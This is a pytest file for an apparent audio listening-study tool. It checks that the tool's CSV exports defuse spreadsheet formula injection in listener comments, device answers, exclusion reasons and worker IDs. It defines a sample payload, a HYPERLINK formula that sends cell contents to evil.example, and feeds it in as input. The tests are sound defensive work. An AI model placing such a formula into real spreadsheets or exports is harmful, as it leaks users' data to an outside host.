"""What stands in the exported tables is data, never a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from humanclap.listening.results.export import export_recruitment, export_study, harmless
from humanclap.listening.study import admin_actions as steering
from humanclap.listening.study.answers import store_answer
from humanclap.listening.study.database import run
from humanclap.listening.study.session_start import Recruit
from humanclap.listening.study.sessions import store_attributes
from humanclap.listening.study.study import Study, create_study, open_study
from humanclap.ratings.read import read_ratings
from humanclap.records import Pair
from humanclap.scale import RatingScale

from .conftest import write_clips
from .test_answers import answer, begun, trials

DESIGN = """
title = "Formulas"
[session]
pairs = 6
anchors = 0
attention_checks = 0
practice = 0
[scale]
low = -3
high = 3
[[question]]
id = "REL"
[[question]]
id = "COMMENT"
required = false
[[listener.question]]
id = "device"
prompt = "What do you listen with?"
"""
EVIL = '=HYPERLINK("https://evil.example?"&A1,"see")'


def table(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.fixture
def study(tmp_path: Path) -> Study:
    """Clips and captions that begin like formulas, as some data sets have them."""
    pairs = write_clips(tmp_path / "clips")[:6]
    (tmp_path / "clips/natural/0.flac").rename(tmp_path / "clips/-0.flac")
    pairs[0] = Pair(audio="-0.flac", text="- a dog barks", system="natural")
    where = str(tmp_path / "study.sqlite")
    create_study(where, design_text=DESIGN, pairs=pairs, audio_root=tmp_path / "clips")
    opened = open_study(where)
    yield opened
    opened.close()


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_a_text_that_begins_like_a_formula_is_shown_not_computed(first: str) -> None:
    assert harmless(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize("text", ["", None, "a=b", "1-2", "me@home", "'=1"])
def test_any_other_text_stays_as_it_is(text: str | None) -> None:
    assert harmless(text) == text


def test_what_listeners_write_is_harmless_and_what_researchers_have_stays_exact(
    study: Study, tmp_path: Path
) -> None:
    session = begun(study, Recruit(site="mturk", worker="-w", task="-t", submission="-s"))
    with study.database.write() as connection:
        store_attributes(connection, session.listener_id, {"device": EVIL})
    for trial in trials(study, session):
        given = {"REL": -3, "COMMENT": EVIL}
        assert store_answer(study, session, answer(trial, values=given)) == "stored"
    with study.database.write() as connection:
        run(connection, "UPDATE listeners SET reason = :r", r="@SUM(1)")
    out = tmp_path / "out"
    export_study(study, out)
    export_recruitment(study, out / "who.csv")
    assert {row["comment"] for row in table(out / "set_aside.csv")} >= {"'" + EVIL}
    [listener] = table(out / "listeners.csv")
    assert (listener["device"], listener["reason"]) == ("'" + EVIL, "'@SUM(1)")
    assert table(out / "relate_listeners.csv")[0]["device"] == "'" + EVIL
    [who] = table(out / "who.csv")
    assert (who["worker"], who["task"], who["submission"]) == ("'-w", "'-t", "'-s")
    ratings = table(out / "ratings.csv")
    assert {row["score"] for row in ratings} == {"-3.0"}
    assert ("-0.flac", "- a dog barks") in {(row["audio"], row["text"]) for row in ratings}
    assert len(read_ratings(out / "ratings.csv", scale=RatingScale(low=-3, high=3))) == 6
    for path in out.glob("*.csv"):
        for row in table(path):
            texts = {k: v for k, v in row.items() if k not in ("audio", "text", "filename")}
            for value in texts.values():
                assert not value.startswith(("=", "+", "@"))


def test_an_exclusions_reason_is_harmless_too(study: Study, tmp_path: Path) -> None:
    session = begun(study)
    store_answer(study, session, answer(trials(study, session)[0], values={"REL": 1}))
    steering.exclude_listener(study, session.listener_id, "+1 of somebody else")
    export_study(study, tmp_path / "out")
    assert table(tmp_path / "out/listeners.csv")[0]["reason"] == "'+1 of somebody else"
